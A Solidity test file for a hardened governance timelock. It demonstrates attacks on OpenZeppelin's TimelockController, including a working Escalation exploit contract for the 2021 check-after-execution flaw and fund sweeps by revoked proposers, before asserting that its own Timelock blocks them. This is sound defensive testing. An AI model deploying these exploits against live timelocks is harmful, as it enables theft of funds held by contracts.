// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";
import {vm} from "../../test/contracts/Vm.sol";
import {ITimelock, TimelockConfig} from "./ITimelock.sol";
import {Box, TimelockFixture} from "./TimelockFixture.t.sol";
import {Timelock} from "./Timelock.sol";

/// @dev TimelockController as it was until August 2021: it looks whether an operation is ready only after its calls.
contract CheckAfterTimelock is TimelockController {
    constructor(
        address[] memory proposers,
        address[] memory executors
    ) TimelockController(2 days, proposers, executors, address(0)) {}

    function executeBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata payloads,
        bytes32 predecessor,
        bytes32 salt
    ) public payable override onlyRoleOrOpenRole(EXECUTOR_ROLE) {
        bytes32 id = hashOperationBatch(targets, values, payloads, predecessor, salt);
        for (uint256 i = 0; i < targets.length; ++i) _execute(targets[i], values[i], payloads[i]);
        if (!isOperationReady(id)) revert TimelockUnexpectedOperationState(id, 0);
    }
}

/// @dev The naive way to void operations of revoked proposers on OpenZeppelin's timelock: by what their state reads.
contract VoidByStateTimelock is TimelockController {
    mapping(bytes32 id => address proposer) private _proposers;

    constructor(
        address[] memory proposers,
        address[] memory executors
    ) TimelockController(2 days, proposers, executors, address(0)) {}

    function scheduleBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata payloads,
        bytes32 predecessor,
        bytes32 salt,
        uint256 delay
    ) public override {
        super.scheduleBatch(targets, values, payloads, predecessor, salt, delay);
        _proposers[hashOperationBatch(targets, values, payloads, predecessor, salt)] = msg.sender;
    }

    function getOperationState(bytes32 id) public view override returns (OperationState) {
        OperationState state = super.getOperationState(id);
        bool pending = state == OperationState.Waiting || state == OperationState.Ready;
        return pending && !hasRole(PROPOSER_ROLE, _proposers[id]) ? OperationState.Unset : state;
    }
}

/// @dev What an attacker schedules in the middle of its own execution, in the 2021 attack.
contract Escalation {
    TimelockController private immutable TARGET;
    address[] private _targets;
    bytes[] private _payloads;

    constructor(TimelockController target) {
        TARGET = target;
    }

    function attack(address prize, address payable to) external {
        _add(abi.encodeCall(TARGET.updateDelay, (0)));
        _add(abi.encodeCall(TARGET.grantRole, (TARGET.PROPOSER_ROLE(), address(this))));
        _targets.push(prize);
        _payloads.push(abi.encodeCall(Box.sweep, (to)));
        _targets.push(address(this));
        _payloads.push(abi.encodeCall(this.scheduleItself, ()));
        TARGET.executeBatch(_targets, new uint256[](_targets.length), _payloads, 0, 0);
    }

    function scheduleItself() external {
        TARGET.scheduleBatch(_targets, new uint256[](_targets.length), _payloads, 0, 0, 0);
    }

    function _add(bytes memory data) private {
        _targets.push(address(TARGET));
        _payloads.push(data);
    }
}

/**
 * @dev Each gap of OpenZeppelin's TimelockController that this project closes: the stock behaviour first, so that the
 * attack is seen to work, then ours.
 */
contract TimelockGapsTest is TimelockFixture {
    // --- Operations never expire, and outlive their proposer ---

    function test_stock_operationOfARevokedProposerRunsFiveYearsLater() public {
        bytes memory sweep = abi.encodeCall(Box.sweep, (thief));
        bytes memory revoke = abi.encodeCall(stock.revokeRole, (stock.PROPOSER_ROLE(), council));
        bytes32 id = _propose(stock, council, address(stockBox), sweep);
        bytes32 salt = _lastSalt();
        _propose(stock, backup, address(stock), revoke);
        skip(DELAY);
        _execute(stock, address(stock), revoke);
        assertFalse(stock.hasRole(stock.PROPOSER_ROLE(), council), "revoked");

        skip(5 * 365 days);
        vm.prank(executor);
        stock.execute(address(stockBox), 0, sweep, 0, salt);
        assertTrue(stock.isOperationDone(id), "done");
        assertEq(thief.balance, 10 ether, "stolen");
    }

    function test_operationExpires() public {
        bytes32 id = _propose(timelock, council, address(box), _set(2));
        skip(DELAY + EXPIRY - 1);
        _assertStatus(id, ITimelock.OperationStatus.Ready, "ready in its last second");
        skip(1);
        _assertStatus(id, ITimelock.OperationStatus.Expired, "expired");
        assertFalse(timelock.isOperation(id), "unset to other tools");
        assertEq(timelock.getTimestamp(id), 0, "no timestamp to other tools");

        vm.expectRevert(
            abi.encodeWithSelector(ITimelock.TimelockOperationExpired.selector, id, 1_800_000_000 + DELAY + EXPIRY)
        );
        _execute(timelock, address(box), _set(2));
    }

    function test_expiredOperationCanBeScheduledAgainWithTheFullDelay() public {
        bytes32 id = _propose(timelock, council, address(box), _set(2));
        skip(DELAY + EXPIRY);
        vm.prank(backup);
        timelock.schedule(address(box), 0, _set(2), 0, _lastSalt(), DELAY);
        _assertStatus(id, ITimelock.OperationStatus.Waiting, "waiting again");
        assertEq(timelock.getOperation(id).proposer, backup, "by whom it was scheduled last");

        skip(DELAY);
        _execute(timelock, address(box), _set(2));
        assertEq(box.value(), 2, "set");
    }

    function test_operationDiesWithItsProposersRole() public {
        bytes32 id = _propose(timelock, council, address(box), _set(2));
        bytes32 salt = _lastSalt();
        _govern(_revoke(timelock.PROPOSER_ROLE(), council));
        _assertStatus(id, ITimelock.OperationStatus.Void, "void");

        vm.expectRevert(abi.encodeWithSelector(ITimelock.TimelockOperationVoid.selector, id, council));
        vm.prank(executor);
        timelock.execute(address(box), 0, _set(2), 0, salt);
    }

    function test_grantingAgainDoesNotReviveIt() public {
        bytes32 id = _propose(timelock, council, address(box), _set(2));
        _govern(_revoke(timelock.PROPOSER_ROLE(), council));
        _govern(_grant(timelock.PROPOSER_ROLE(), council));
        assertTrue(timelock.hasRole(timelock.PROPOSER_ROLE(), council), "granted again");
        _assertStatus(id, ITimelock.OperationStatus.Void, "still void");
    }

    function test_renouncingVoidsToo() public {
        bytes32 id = _propose(timelock, council, address(box), _set(2));
        bytes32 role = timelock.PROPOSER_ROLE();
        vm.prank(council);
        timelock.renounceRole(role, council);
        _assertStatus(id, ITimelock.OperationStatus.Void, "void");
    }

    // --- Calls into the void succeed ---

    function test_stock_callToAnAddressWithoutCodeSucceeds() public {
        bytes32 id = _propose(stock, council, address(0x1234), _set(2));
        skip(DELAY);
        _execute(stock, address(0x1234), _set(2));
        assertTrue(stock.isOperationDone(id), "done, and nothing happened");
    }

    function test_callToAnAddressWithoutCodeIsRefused() public {
        _propose(timelock, council, address(0x1234), _set(2));
        skip(DELAY);
        vm.expectRevert(abi.encodeWithSelector(ITimelock.TimelockTargetWithoutCode.selector, address(0x1234)));
        _execute(timelock, address(0x1234), _set(2));
    }

    function test_codeIsAskedForInEveryCallOfABatch() public {
        address[] memory targets = _list(address(box), address(0x1234));
        bytes[] memory payloads = _list(_set(2), _set(3));
        _proposeBatch(timelock, council, targets, payloads);
        skip(DELAY);
        vm.expectRevert(abi.encodeWithSelector(ITimelock.TimelockTargetWithoutCode.selector, address(0x1234)));
        _executeBatch(timelock, targets, payloads);
    }

    function test_valueCanBeSentToAKey() public {
        vm.deal(address(timelock), 1 ether);
        vm.prank(council);
        timelock.schedule(address(0x1234), 1 ether, "", 0, 0, DELAY);
        skip(DELAY);
        vm.prank(executor);
        timelock.execute(address(0x1234), 1 ether, "", 0, 0);
        assertEq(address(0x1234).balance, 1 ether, "arrived");
    }

    // --- Pre-signed operations and a delay that can be removed ---

    function test_stock_delayFallsToZeroAndTheftFollowsAtOnce() public {
        bytes memory zero = abi.encodeCall(stock.updateDelay, (0));
        _propose(stock, council, address(stock), zero);
        skip(DELAY);
        _execute(stock, address(stock), zero);

        bytes memory sweep = abi.encodeCall(Box.sweep, (thief));
        vm.prank(council);
        stock.schedule(address(stockBox), 0, sweep, 0, 0, 0);
        vm.prank(executor);
        stock.execute(address(stockBox), 0, sweep, 0, 0);
        assertEq(thief.balance, 10 ether, "scheduled and executed in one second");
    }

    function test_delayCannotLeaveItsBounds(uint256 newDelay) public {
        vm.assume(newDelay < FLOOR || newDelay > CEILING);
        bytes memory data = abi.encodeCall(timelock.updateDelay, (newDelay));
        _propose(timelock, council, address(timelock), data);
        skip(DELAY);
        vm.expectRevert(abi.encodeWithSelector(ITimelock.TimelockDelayOutOfBounds.selector, newDelay, FLOOR, CEILING));
        _execute(timelock, address(timelock), data);
    }

    function test_decreaseRulesOneOldDelayLater() public {
        _govern(abi.encodeCall(timelock.updateDelay, (FLOOR)));
        assertEq(timelock.getMinDelay(), DELAY, "the old delay still rules");
        (uint256 current, uint256 pending, uint256 effectAt) = timelock.getDelay();
        assertEq(current, DELAY, "current");
        assertEq(pending, FLOOR, "pending");
        assertEq(effectAt, vm.getBlockTimestamp() + DELAY, "effect");

        skip(DELAY - 1);
        bytes memory sweep = abi.encodeCall(Box.sweep, (thief));
        vm.expectRevert(abi.encodeWithSelector(TimelockController.TimelockInsufficientDelay.selector, FLOOR, DELAY));
        vm.prank(council);
        timelock.schedule(address(box), 0, sweep, 0, 0, FLOOR);

        skip(1);
        assertEq(timelock.getMinDelay(), FLOOR, "now the new one rules");
        (current, pending, effectAt) = timelock.getDelay();
        assertEq(current, FLOOR, "current");
        assertEq(effectAt, 0, "nothing pending");
    }

    function test_increaseRulesAtOnceAndEndsAPendingDecrease() public {
        _govern(abi.encodeCall(timelock.updateDelay, (FLOOR)));
        bytes memory data = abi.encodeCall(timelock.updateDelay, (DELAY + 1));
        _govern(data);
        assertEq(timelock.getMinDelay(), DELAY + 1, "at once");
        skip(DELAY);
        assertEq(timelock.getMinDelay(), DELAY + 1, "for good");
    }

    function test_increaseBeforeThePendingDecreaseIsComparedWithTheDelayInForce() public {
        bytes memory decrease = abi.encodeCall(timelock.updateDelay, (FLOOR));
        bytes memory between = abi.encodeCall(timelock.updateDelay, (DELAY - 1));
        address[] memory targets = _list(address(timelock), address(timelock));
        bytes[] memory payloads = _list(decrease, between);
        _proposeBatch(timelock, council, targets, payloads);
        skip(DELAY);
        _executeBatch(timelock, targets, payloads);
        assertEq(timelock.getMinDelay(), DELAY, "above the pending delay, and still a decrease");
        skip(DELAY);
        assertEq(timelock.getMinDelay(), DELAY - 1, "the last one said");
    }

    function test_stock_delayOfAnOperationHasNoBound() public {
        vm.prank(council);
        stock.schedule(address(stockBox), 0, _set(2), 0, 0, 1000 * 365 days);
        assertTrue(stock.isOperationPending(stock.hashOperation(address(stockBox), 0, _set(2), 0, 0)), "pending");
    }

    function test_delayOfAnOperationIsBounded(uint256 delay) public {
        delay = bound(delay, CEILING + 1, type(uint256).max);
        vm.expectRevert(abi.encodeWithSelector(ITimelock.TimelockDelayOutOfBounds.selector, delay, FLOOR, CEILING));
        vm.prank(council);
        timelock.schedule(address(box), 0, _set(2), 0, 0, delay);
    }

    function test_onlyTheTimelockChangesItsDelay() public {
        vm.expectRevert(abi.encodeWithSelector(TimelockController.TimelockUnauthorizedCaller.selector, council));
        vm.prank(council);
        timelock.updateDelay(FLOOR);
    }

    // --- A batch that revokes its own proposer ---

    function test_stock_voidingByStateBreaksABatchThatRevokesItsProposer() public {
        VoidByStateTimelock naive = new VoidByStateTimelock(_list(council, backup), _list(executor));
        Box owned = new Box(address(naive));
        address[] memory targets = _list(address(naive), address(owned));
        bytes memory revoke = abi.encodeCall(naive.revokeRole, (naive.PROPOSER_ROLE(), council));
        bytes[] memory payloads = _list(revoke, _set(2));
        bytes32 id = _proposeBatch(naive, council, targets, payloads);
        skip(DELAY);
        vm.expectRevert(
            abi.encodeWithSelector(
                TimelockController.TimelockUnexpectedOperationState.selector,
                id,
                bytes32(uint256(1 << uint8(TimelockController.OperationState.Ready)))
            )
        );
        _executeBatch(naive, targets, payloads);
    }

    function test_aBatchCanRevokeItsOwnProposer() public {
        address[] memory targets = _list(address(timelock), address(box));
        bytes[] memory payloads = _list(_revoke(timelock.PROPOSER_ROLE(), council), _set(2));
        bytes32 id = _proposeBatch(timelock, council, targets, payloads);
        skip(DELAY);
        _executeBatch(timelock, targets, payloads);
        assertEq(box.value(), 2, "the rest of the batch ran");
        assertTrue(timelock.isOperationDone(id), "done");
        assertFalse(timelock.hasRole(timelock.PROPOSER_ROLE(), council), "revoked");
    }

    function test_aProposerCanProposeItsReplacement() public {
        address next = address(0xC2);
        bytes32 role = timelock.PROPOSER_ROLE();
        address[] memory targets = _list(address(timelock), address(timelock));
        bytes[] memory payloads = _list(_grant(role, next), _revoke(role, council));
        _proposeBatch(timelock, council, targets, payloads);
        skip(DELAY);
        _executeBatch(timelock, targets, payloads);
        assertTrue(timelock.hasRole(role, next), "replaced");
        assertEq(timelock.activeProposers(), 2, "backup and the new one");
    }

    // --- Executor escalation (2021) ---

    function test_stock_executorBecameProposerInsideItsOwnBatchUntil2021() public {
        CheckAfterTimelock old = new CheckAfterTimelock(_list(council), _list(address(0)));
        Box owned = new Box(address(old));
        vm.deal(address(owned), 10 ether);
        new Escalation(old).attack(address(owned), thief);
        assertEq(thief.balance, 10 ether, "stolen without any role");
    }

    function test_executorCannotEscalate() public {
        Timelock open = _openTimelock();
        Box owned = new Box(address(open));
        vm.deal(address(owned), 10 ether);
        Escalation escalation = new Escalation(open);
        vm.expectRevert();
        escalation.attack(address(owned), thief);
        assertEq(thief.balance, 0, "nothing stolen");
        assertFalse(open.hasRole(open.PROPOSER_ROLE(), address(escalation)), "no proposer");
    }

    function test_anOperationCannotRunItselfAgain() public {
        Timelock open = _openTimelock();
        Reentry reentry = new Reentry(open);
        bytes memory data = abi.encodeCall(reentry.enter, ());
        bytes32 id = _propose(open, council, address(reentry), data);
        reentry.prepare(data, _lastSalt());
        skip(DELAY);
        _execute(open, address(reentry), data);
        assertEq(reentry.entries(), 1, "once");
        assertTrue(reentry.refused(), "the second time was refused");
        assertTrue(open.isOperationDone(id), "done");
    }

    function _openTimelock() private returns (Timelock) {
        return new Timelock(_openConfig());
    }

    function _openConfig() private view returns (TimelockConfig memory config) {
        config = _config();
        config.executors = _list(address(0));
    }
}

/// @dev Tries to run the operation that runs it.
contract Reentry {
    Timelock private immutable TIMELOCK;
    bytes private _data;
    bytes32 private _salt;
    uint256 public entries;
    bool public refused;

    constructor(Timelock timelock) {
        TIMELOCK = timelock;
    }

    function prepare(bytes calldata data, bytes32 salt) external {
        (_data, _salt) = (data, salt);
    }

    function enter() external {
        ++entries;
        if (entries > 1) return;
        try TIMELOCK.execute(address(this), 0, _data, 0, _salt) {} catch {
            refused = true;
        }
    }
}
